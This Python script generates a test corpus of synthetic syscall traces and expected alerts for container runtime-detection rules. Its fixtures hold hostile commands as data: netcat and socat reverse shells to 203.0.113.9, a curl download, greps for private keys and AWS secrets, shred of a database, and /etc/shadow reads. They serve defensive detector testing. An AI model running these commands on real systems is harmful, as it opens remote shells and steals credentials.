#!/usr/bin/env python3
"""Writes the rule corpus: JSON-lines event traces (schema v1, docs/event-schema.md) and
cases.yaml, which says for each trace which rule it targets, whether that rule must fire, and
(for guard's policies) the exact list of alerts expected.

The traces are data; this script only keeps them consistent. Re-run after editing:
    python3 tests/corpus/make_corpus.py
"""
import copy
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = 1_767_225_600_000_000_000  # 2026-01-01T00:00:00Z

CONTAINER = {
    "id": "3f2a9c1b7d4e",
    "name": "web-1",
    "image": "docker.io/library/nginx:1.25",
    "type": "docker",
    "labels": {"io.kubernetes.pod.namespace": "prod", "io.kubernetes.pod.name": "web-1-7d9f"},
}

PROC = {
    "pid": 4242,
    "ppid": 4200,
    "name": "bash",
    "exe": "/bin/bash",
    "exepath": "/bin/bash",
    "cwd": "/",
    "uid": 0,
    "user": "root",
    "gid": 0,
    "group": "root",
    "start_time": T0 - 60_000_000_000,
    "ancestors": [
        {"pid": 4200, "name": "nginx", "exe": "nginx", "exepath": "/usr/sbin/nginx", "args": ["-g", "daemon off;"]},
        {"pid": 4100, "name": "containerd-shim", "exepath": "/usr/bin/containerd-shim-runc-v2"},
    ],
}

# runc as `guard record` shows it setting a container up (docker 24, runc 1.1).
RUNC_ANC = [
    {"pid": 900, "name": "runc", "exe": "runc", "exepath": "/dev/fd/6", "args": ["init"]},
    {"pid": 899, "name": "runc", "exe": "runc", "exepath": "/usr/sbin/runc", "args": ["--root", "/var/run/docker/runtime-runc/moby", "create"]},
    {"pid": 800, "name": "containerd-shim", "exepath": "/usr/bin/containerd-shim-runc-v2"},
]
RUNC_INIT = {"pid": 901, "ppid": 900, "name": "runc:[2:INIT]", "exe": "runc", "exepath": "/dev/fd/6", "args": ["init"], "vpid": 1, "vpgid": 1, "sname": "runc", "ancestors": RUNC_ANC}
RUNC_CLONE = {"pid": 950, "ppid": 899, "name": "exe", "exe": "runc", "exepath": "/proc/self/exe", "args": ["init"], "vpid": 950, "vpgid": 899, "sname": "containerd", "ancestors": RUNC_ANC[1:]}


def ev(evt_type, proc=None, fd=None, container=True, args=None, res=0, dt=0):
    p = copy.deepcopy(PROC)
    p.update(proc or {})
    e = {"v": 1, "time": T0 + dt, "type": evt_type, "res": res}
    if args:
        e["args"] = args
    e["proc"] = p
    if fd is not None:
        e["fd"] = fd
    if container is True:
        e["container"] = copy.deepcopy(CONTAINER)
    elif isinstance(container, dict):
        c = copy.deepcopy(CONTAINER)
        c.update(container)
        e["container"] = c
    return e


def exe(name, args=(), path=None, **kw):
    proc = {"name": name, "exe": path or f"/usr/bin/{name}", "exepath": path or f"/usr/bin/{name}", "args": list(args)}
    proc.update(kw.pop("proc", {}))
    return ev("execve", proc=proc, **kw)


def fopen(path, flags, name="bash", res=3, raw=None, **kw):
    fd = {"num": res if res >= 0 else -1, "type": "file", "name": path}
    if raw:
        fd["nameraw"] = raw
    proc = {"name": name, "exe": f"/usr/bin/{name}", "exepath": f"/usr/bin/{name}"}
    proc.update(kw.pop("proc", {}))
    return ev("openat", proc=proc, fd=fd, args={"flags": flags}, res=res, **kw)


def conn(ip, port, name="curl", res=0, proto="tcp", **kw):
    fd = {"num": 5, "type": "ipv6" if ":" in ip else "ipv4", "cip": "172.17.0.2", "cport": 45678, "sip": ip, "sport": port, "l4proto": proto}
    proc = {"name": name, "exe": f"/usr/bin/{name}", "exepath": f"/usr/bin/{name}"}
    proc.update(kw.pop("proc", {}))
    return ev("connect", proc=proc, fd=fd, res=res, **kw)


def sendto(ip, port, name="ssh", proto="udp", connected=False, changed=True, data="SSH-2.0-x", **kw):
    """A sendto with a destination, as the capture stage builds it: only the server end."""
    fd = {"num": 5, "type": "ipv4", "sip": ip, "sport": port, "l4proto": proto, "connected": connected, "name_changed": changed}
    proc = {"name": name, "exe": f"/usr/bin/{name}", "exepath": f"/usr/bin/{name}"}
    proc.update(kw.pop("proc", {}))
    e = ev("sendto", proc=proc, fd=fd, res=len(data), args={"fd": 5, "size": len(data), "data": data}, **kw)
    e["buffer"] = {"data": data, "len": len(data)}
    return e


def dup(newfd, fdtype, name="bash", **kw):
    fd = {"num": 3, "type": fdtype}
    if fdtype in ("ipv4", "ipv6"):
        fd.update({"cip": "172.17.0.2", "cport": 45678, "sip": "203.0.113.9", "sport": 4444, "l4proto": "tcp"})
    return ev("dup2", proc={"name": name}, fd=fd, res=newfd, args={"oldfd": 3, "newfd": newfd}, **kw)


# dockerd's re-executed helper unpacking a layer (`docker build`): its root is the layer.
DOCKERD_ANC = [{"pid": 700, "name": "dockerd", "exe": "/usr/sbin/dockerd", "exepath": "/usr/sbin/dockerd", "args": ["-H", "fd://"]}]
LAYER_HELPER = {"name": "exe", "exe": "/proc/self/exe", "exepath": "/proc/self/exe", "args": ["/", "/var/lib/docker/overlay2/4f1e/diff"], "ancestors": DOCKERD_ANC}
FAKE_HELPER = dict(LAYER_HELPER, ancestors=[{"pid": 4200, "name": "dockerd", "exe": "/tmp/dockerd", "exepath": "/tmp/dockerd"}])

ROOTLESS = {"uid": 1000, "user": "app", "gid": 1000, "group": "app"}

# (trace name, target rule, fires?, events, exact alerts from policies/)
POLICY_CASES = [
    ("shell_in_container.pos", "Shell spawned in container", True, [exe("bash", ["-i"], path="/bin/bash")], None),
    ("shell_in_container.neg", "Shell spawned in container", False, [exe("bash", ["-i"], path="/bin/bash", container=False)], []),
    ("write_below_etc.pos", "Write below etc", True, [fopen("/etc/passwd", "O_WRONLY|O_APPEND")], None),
    ("write_below_etc.neg", "Write below etc", False, [fopen("/etc/passwd", "O_WRONLY|O_APPEND", name="useradd"), fopen("/etc/hosts", "O_RDONLY")], []),
    # Named "exe" with a dockerd parent, but in a container, or with a parent that is not the
    # host's dockerd binary: still alerts.
    ("write_below_etc_layer.pos", "Write below etc", True, [fopen("/etc/passwd", "O_WRONLY|O_CREAT", proc=LAYER_HELPER), fopen("/etc/passwd", "O_WRONLY|O_CREAT", proc=FAKE_HELPER, container=False)], ["Write below etc", "Write below etc"]),
    ("write_below_etc_layer.neg", "Write below etc", False, [fopen("/etc/pkg.conf", "O_WRONLY|O_CREAT", proc=LAYER_HELPER, container=False)], []),
    ("write_below_bin_layer.pos", "Write below binary directory", True, [fopen("/usr/lib/pkg/tool", "O_WRONLY|O_CREAT", proc=LAYER_HELPER), fopen("/usr/lib/pkg/tool", "O_WRONLY|O_CREAT", proc=FAKE_HELPER, container=False)], ["Write below binary directory", "Write below binary directory"]),
    ("write_below_bin_layer.neg", "Write below binary directory", False, [fopen("/usr/lib/pkg/tool", "O_WRONLY|O_CREAT", proc=LAYER_HELPER, container=False)], []),
    ("write_below_bin.pos", "Write below binary directory", True, [fopen("/usr/bin/ls", "O_WRONLY|O_CREAT|O_TRUNC", name="python3")], None),
    ("write_below_bin.neg", "Write below binary directory", False, [fopen("/usr/bin/ls", "O_RDONLY", name="python3"), fopen("/usr/bin/ls", "O_WRONLY|O_CREAT|O_TRUNC", name="dpkg"), fopen("/usr/binaries/x", "O_WRONLY")], []),
    ("read_sensitive.pos", "Read sensitive file", True, [fopen("/etc/shadow", "O_RDONLY", name="cat")], None),
    ("read_sensitive.neg", "Read sensitive file", False, [fopen("/etc/shadow", "O_RDONLY", name="sshd"), fopen("/etc/passwd", "O_RDONLY", name="cat"), fopen("/etc/shadow", "O_RDONLY", name="cat", res=-13)], []),
    ("package_manager.pos", "Package manager run in container", True, [exe("apt-get", ["install", "-y", "nmap"])], None),
    ("package_manager.neg", "Package manager run in container", False, [exe("apt-get", ["install", "-y", "nmap"], container=False)], []),
    ("downloader.pos", "Downloader run in container", True, [exe("curl", ["-sO", "http://203.0.113.9/x"])], None),
    ("downloader.neg", "Downloader run in container", False, [exe("curl", ["-sO", "http://203.0.113.9/x"], container=False), exe("curl", ["x"], res=-2)], []),
    ("netcat.pos", "Netcat or socat remote shell", True, [exe("nc", ["-e", "/bin/sh", "203.0.113.9", "4444"], path="/bin/nc"), exe("socat", ["TCP:203.0.113.9:4444", "EXEC:/bin/sh"], container=False)], None),
    ("netcat.neg", "Netcat or socat remote shell", False, [exe("nc", ["-z", "db", "5432"], path="/bin/nc")], []),
    ("stdio_socket.pos", "Standard stream redirected to socket", True, [dup(0, "ipv4"), dup(1, "ipv4")], None),
    ("stdio_socket.neg", "Standard stream redirected to socket", False, [dup(1, "pipe"), dup(7, "ipv4")], []),
    ("exec_tmp.pos", "Execution from temporary directory", True, [exe("x", path="/tmp/x", proc={"exe": "./x"}), exe("y", path="/dev/shm/.y", proc={"exe": "./.y"}, container=False)], None),
    ("exec_tmp.neg", "Execution from temporary directory", False, [exe("x", path="/usr/local/bin/x"), exe("t", path="/tmpfs/t", container=False)], []),
    ("memfd.pos", "Fileless execution from memfd", True, [exe("kworker", path="memfd:payload (deleted)", proc={"is_exe_from_memfd": True})], None),
    ("memfd.neg", "Fileless execution from memfd", False, [exe("runc", path="memfd:runc_cloned:/proc/self/exe", proc={"is_exe_from_memfd": True}, container=False)], []),
    ("drop_exec.pos", "Binary from writable layer executed in container", True, [exe("miner", path="/app/miner", proc={"is_exe_upper_layer": True})], None),
    ("drop_exec.neg", "Binary from writable layer executed in container", False, [exe("app", path="/app/app", proc={"is_exe_upper_layer": False}), exe("miner", path="/opt/miner", proc={"is_exe_upper_layer": True}, container=False)], []),
    ("ptrace.pos", "Ptrace attach to process", True, [ev("ptrace", proc={"name": "python3"}, args={"request": "PTRACE_ATTACH", "pid": 1})], None),
    ("ptrace.neg", "Ptrace attach to process", False, [ev("ptrace", proc={"name": "gdb"}, args={"request": "PTRACE_ATTACH", "pid": 77}), ev("ptrace", proc={"name": "python3"}, args={"request": "PTRACE_PEEKDATA", "pid": 1})], []),
    ("log_clear.pos", "Log file cleared", True, [fopen("/var/log/auth.log", "O_WRONLY|O_TRUNC"), ev("unlinkat", proc={"name": "rm"}, args={"dirfd": -100, "name": "/var/log/syslog", "flags": 0})], None),
    ("log_clear.neg", "Log file cleared", False, [fopen("/var/log/auth.log", "O_WRONLY|O_TRUNC", name="logrotate"), fopen("/var/log/auth.log", "O_WRONLY|O_APPEND")], []),
    ("kmod.pos", "Kernel module loaded", True, [ev("finit_module", proc={"name": "insmod"}, args={"fd": 3}, container=False)], None),
    ("kmod.neg", "Kernel module loaded", False, [ev("finit_module", proc={"name": "insmod"}, args={"fd": 3}, res=-1)], []),
    ("mount.pos", "Mount in container", True, [ev("mount", proc={"name": "mount"}, args={"dev": "/dev/sda1", "dir": "/mnt", "type": "ext4"})], None),
    ("mount.neg", "Mount in container", False, [ev("mount", proc={"name": "mount"}, args={"dev": "/dev/sda1", "dir": "/mnt", "type": "ext4"}, container=False)], []),
    # runc's own init (container pid 1, `runc init` started by runc) and runc's re-exec of itself
    # mounting in the container's cgroup while it sets the container up: not reported.
    ("mount_runtime.neg", "Mount in container", False, [
        ev("mount", proc=RUNC_INIT, args={"dev": "proc", "dir": "/proc/self/fd/6", "flags": 0}),
        ev("mount", proc=RUNC_INIT, args={"dev": "tmpfs", "dir": "/dev", "flags": 0}),
        ev("mount", proc=RUNC_CLONE, args={"dev": "/proc/self/exe", "dir": "/var/run/docker/runtime-runc/moby/3f2a9c1b7d4e/runc.wlhA56", "flags": 0}),
    ], []),
    # The same names without the runtime's pid 1 or the host's runc as parent still fire.
    ("mount_runtime.pos", "Mount in container", True, [
        ev("mount", proc=dict(RUNC_INIT, vpid=7, vpgid=7, ancestors=[{"pid": 890, "name": "runc", "exe": "runc", "exepath": "/tmp/runc", "args": ["x"]}]), args={"dev": "/dev/sda1", "dir": "/mnt", "flags": 0}),
        ev("mount", proc=dict(RUNC_CLONE, ancestors=[{"pid": 890, "name": "runc", "exe": "runc", "exepath": "/tmp/runc"}]), args={"dev": "/dev/sda1", "dir": "/mnt", "flags": 0}),
    ], ["Mount in container", "Mount in container"]),
    ("outbound_port.pos", "Outbound connection to unusual port", True, [conn("203.0.113.9", 4444), conn("2001:db8::9", 3333, res=-115)], None),
    ("outbound_port.neg", "Outbound connection to unusual port", False, [conn("203.0.113.9", 443), conn("127.0.0.1", 4444), conn("203.0.113.9", 4444, container=False), conn("203.0.113.9", 4444, res=-111)], []),
    ("setuid_root.pos", "Setuid to root by non-root process", True, [ev("setuid", proc=ROOTLESS | {"name": "exploit"}, args={"uid": 0})], None),
    ("setuid_root.neg", "Setuid to root by non-root process", False, [ev("setuid", proc={"name": "sudo"}, args={"uid": 0}), ev("setuid", proc=ROOTLESS | {"name": "exploit"}, args={"uid": 0}, res=-1), ev("setuid", proc=ROOTLESS | {"name": "app"}, args={"uid": 1001})], []),
]

SHELL_PARENT_SSHD = {"ancestors": [{"pid": 900, "name": "sshd", "exepath": "/usr/sbin/sshd"}]}
RUNC_PARENT = {"ancestors": [{"pid": 4200, "name": "runc:[1:CHILD]", "exepath": "/usr/bin/runc"}]}

FALCO_CASES = [
    ("dir_traversal.pos", "Directory traversal monitored file read", True, [fopen("/etc/shadow", "O_RDONLY", name="php-fpm", raw="/var/www/html/../../../etc/shadow")]),
    ("dir_traversal.neg", "Directory traversal monitored file read", False, [fopen("/etc/shadow", "O_RDONLY", name="php-fpm", raw="/etc/shadow")]),
    ("read_sensitive_trusted.pos", "Read sensitive file trusted after startup", True, [fopen("/etc/shadow", "O_RDONLY", name="nginx")]),
    ("read_sensitive_trusted.neg", "Read sensitive file trusted after startup", False, [fopen("/etc/shadow", "O_RDONLY", name="nginx", proc={"start_time": T0 - 1_000_000_000})]),
    ("read_sensitive_untrusted.pos", "Read sensitive file untrusted", True, [fopen("/etc/shadow", "O_RDONLY", name="python3")]),
    ("read_sensitive_untrusted.neg", "Read sensitive file untrusted", False, [fopen("/etc/shadow", "O_RDONLY", name="passwd")]),
    ("run_shell_untrusted.pos", "Run shell untrusted", True, [exe("bash", ["-c", "id"], path="/bin/bash")]),
    ("run_shell_untrusted.neg", "Run shell untrusted", False, [exe("bash", ["-c", "id"], path="/bin/bash", proc=SHELL_PARENT_SSHD)]),
    ("system_user_interactive.pos", "System user interactive", True, [exe("bash", path="/bin/bash", proc=SHELL_PARENT_SSHD | {"user": "www-data", "uid": 33}, container=False)]),
    ("system_user_interactive.neg", "System user interactive", False, [exe("bash", path="/bin/bash", proc=SHELL_PARENT_SSHD, container=False)]),
    ("terminal_shell.pos", "Terminal shell in container", True, [exe("bash", path="/bin/bash", proc=RUNC_PARENT | {"tty": 34816})]),
    ("terminal_shell.neg", "Terminal shell in container", False, [exe("bash", path="/bin/bash", proc=RUNC_PARENT | {"tty": 0})]),
    # The corpus engine resolves kubernetes.default.svc.cluster.local to 10.96.0.1 only.
    ("k8s_api.pos", "Contact K8S API Server From Container", True, [conn("10.96.0.1", 443)]),
    ("k8s_api.neg", "Contact K8S API Server From Container", False, [conn("10.96.0.2", 443)]),
    ("netcat_rce.pos", "Netcat Remote Code Execution in Container", True, [exe("nc", ["-e", "/bin/sh", "203.0.113.9", "4444"])]),
    ("netcat_rce.neg", "Netcat Remote Code Execution in Container", False, [exe("nc", ["-z", "db", "5432"])]),
    ("search_keys.pos", "Search Private Keys or Passwords", True, [exe("grep", ["-r", "BEGIN RSA PRIVATE", "/"])]),
    ("search_keys.neg", "Search Private Keys or Passwords", False, [exe("grep", ["-r", "TODO", "/src"])]),
    ("clear_log.pos", "Clear Log Activities", True, [fopen("/var/log/syslog", "O_WRONLY|O_TRUNC")]),
    ("clear_log.neg", "Clear Log Activities", False, [fopen("/var/log/syslog", "O_WRONLY|O_APPEND")]),
    ("remove_bulk.pos", "Remove Bulk Data from Disk", True, [exe("shred", ["-u", "/data/db"])]),
    ("remove_bulk.neg", "Remove Bulk Data from Disk", False, [exe("ls", ["/data"])]),
    ("symlink_sensitive.pos", "Create Symlink Over Sensitive Files", True, [ev("symlinkat", proc={"name": "ln"}, args={"target": "/etc/shadow", "linkpath": "/tmp/s"})]),
    ("symlink_sensitive.neg", "Create Symlink Over Sensitive Files", False, [ev("symlinkat", proc={"name": "ln"}, args={"target": "/tmp/a", "linkpath": "/tmp/s"})]),
    ("hardlink_sensitive.pos", "Create Hardlink Over Sensitive Files", True, [ev("linkat", proc={"name": "ln"}, args={"oldpath": "/etc/shadow", "newpath": "/tmp/s"})]),
    ("hardlink_sensitive.neg", "Create Hardlink Over Sensitive Files", False, [ev("linkat", proc={"name": "ln"}, args={"oldpath": "/tmp/a", "newpath": "/tmp/s"})]),
    ("packet_socket.pos", "Packet socket created in container", True, [ev("socket", proc={"name": "arpspoof"}, args={"domain": "AF_PACKET", "type": 3, "proto": 768}, res=3)]),
    ("packet_socket.neg", "Packet socket created in container", False, [ev("socket", proc={"name": "curl"}, args={"domain": "AF_INET", "type": 1, "proto": 0}, res=3)]),
    ("redirect_stdio.pos", "Redirect STDOUT/STDIN to Network Connection in Container", True, [dup(0, "ipv4")]),
    ("redirect_stdio.neg", "Redirect STDOUT/STDIN to Network Connection in Container", False, [dup(0, "pipe")]),
    ("kmod_injection.pos", "Linux Kernel Module Injection Detected", True, [ev("finit_module", proc={"name": "insmod", "cap_effective": ["CAP_SYS_MODULE", "CAP_SYS_ADMIN"]}, args={"fd": 3})]),
    ("kmod_injection.neg", "Linux Kernel Module Injection Detected", False, [ev("finit_module", proc={"name": "insmod", "cap_effective": ["CAP_CHOWN"]}, args={"fd": 3})]),
    ("debugfs.pos", "Debugfs Launched in Privileged Container", True, [exe("debugfs", ["/dev/sda1"], container={"privileged": True})]),
    ("debugfs.neg", "Debugfs Launched in Privileged Container", False, [exe("debugfs", ["/dev/sda1"])]),
    ("release_agent.pos", "Detect release_agent File Container Escapes", True, [fopen("/sys/fs/cgroup/x/release_agent", "O_WRONLY", proc={"cap_effective": ["CAP_SYS_ADMIN"]})]),
    ("release_agent.neg", "Detect release_agent File Container Escapes", False, [fopen("/sys/fs/cgroup/x/release_agent", "O_WRONLY", proc={"cap_effective": ["CAP_CHOWN"]})]),
    ("ptrace_attach.pos", "PTRACE attached to process", True, [ev("ptrace", proc={"name": "python3"}, args={"request": "PTRACE_ATTACH", "pid": 1})]),
    ("ptrace_attach.neg", "PTRACE attached to process", False, [ev("ptrace", proc={"name": "python3"}, args={"request": "PTRACE_PEEKDATA", "pid": 1})]),
    ("ptrace_antidebug.pos", "PTRACE anti-debug attempt", True, [ev("ptrace", proc={"name": "malware"}, args={"request": "PTRACE_TRACEME", "pid": 0})]),
    ("ptrace_antidebug.neg", "PTRACE anti-debug attempt", False, [ev("ptrace", proc={"name": "malware"}, args={"request": "PTRACE_ATTACH", "pid": 5})]),
    ("aws_creds.pos", "Find AWS Credentials", True, [exe("grep", ["-r", "aws_secret_access_key", "/home"])]),
    ("aws_creds.neg", "Find AWS Credentials", False, [exe("grep", ["-r", "hello", "/home"])]),
    ("exec_dev_shm.pos", "Execution from /dev/shm", True, [exe("x", path="/dev/shm/x")]),
    ("exec_dev_shm.neg", "Execution from /dev/shm", False, [exe("x", path="/usr/bin/x")]),
    ("drop_execute.pos", "Drop and execute new binary in container", True, [exe("miner", path="/app/miner", proc={"is_exe_upper_layer": True})]),
    ("drop_execute.neg", "Drop and execute new binary in container", False, [exe("app", path="/app/app")]),
    ("ssh_nonstandard.pos", "Disallowed SSH Connection Non Standard Port", True, [conn("203.0.113.7", 443, name="ssh", proc={"exe": "/usr/bin/ssh"})]),
    ("ssh_nonstandard.neg", "Disallowed SSH Connection Non Standard Port", False, [conn("203.0.113.7", 22, name="ssh", proc={"exe": "/usr/bin/ssh"}), conn("10.1.2.3", 443, name="ssh", proc={"exe": "/usr/bin/ssh"})]),
    # The sendto branch of `outbound` (unconnected UDP, new name, public address) never fires
    # this rule, which wants TCP, in Falco as here.
    ("ssh_nonstandard_sendto.neg", "Disallowed SSH Connection Non Standard Port", False, [sendto("203.0.113.7", 4444, proc={"exe": "/usr/bin/ssh"}), sendto("203.0.113.7", 4444, proto="tcp", proc={"exe": "/usr/bin/ssh"}), sendto("10.1.2.3", 4444, proc={"exe": "/usr/bin/ssh"})]),
    ("memfd_exec.pos", "Fileless execution via memfd_create", True, [exe("payload", path="memfd:payload (deleted)", proc={"is_exe_from_memfd": True})]),
    ("memfd_exec.neg", "Fileless execution via memfd_create", False, [exe("runc", path="memfd:runc_cloned:/proc/self/exe", proc={"is_exe_from_memfd": True})]),
]


def write_trace(sub, name, events):
    os.makedirs(os.path.join(HERE, sub), exist_ok=True)
    path = os.path.join(sub, name + ".jsonl")
    with open(os.path.join(HERE, path), "w") as f:
        for i, e in enumerate(events):
            e = dict(e)
            e["time"] = e["time"] + i * 1000
            f.write(json.dumps(e, separators=(",", ":")) + "\n")
    return path


def main():
    lines = [
        "# Generated by make_corpus.py: which rule each trace targets and what must happen.",
        "# ruleset: policies = policies/ only; falco = ../shared/falco-rules/falco_rules.yaml only.",
        "# alerts (policies only): the exact alert list, in order, or omitted = only check `fires`.",
    ]
    for name, rule, fires, events, alerts in POLICY_CASES:
        path = write_trace("policies", name, events)
        if alerts is None:
            alerts = [rule] * len(events)
        lines += [f"- trace: {path}", "  ruleset: policies", f"  rule: {json.dumps(rule)}", f"  fires: {str(fires).lower()}", f"  alerts: {json.dumps(alerts)}"]
    for name, rule, fires, events in FALCO_CASES:
        path = write_trace("falco", name, events)
        lines += [f"- trace: {path}", "  ruleset: falco", f"  rule: {json.dumps(rule)}", f"  fires: {str(fires).lower()}"]
    with open(os.path.join(HERE, "cases.yaml"), "w") as f:
        f.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
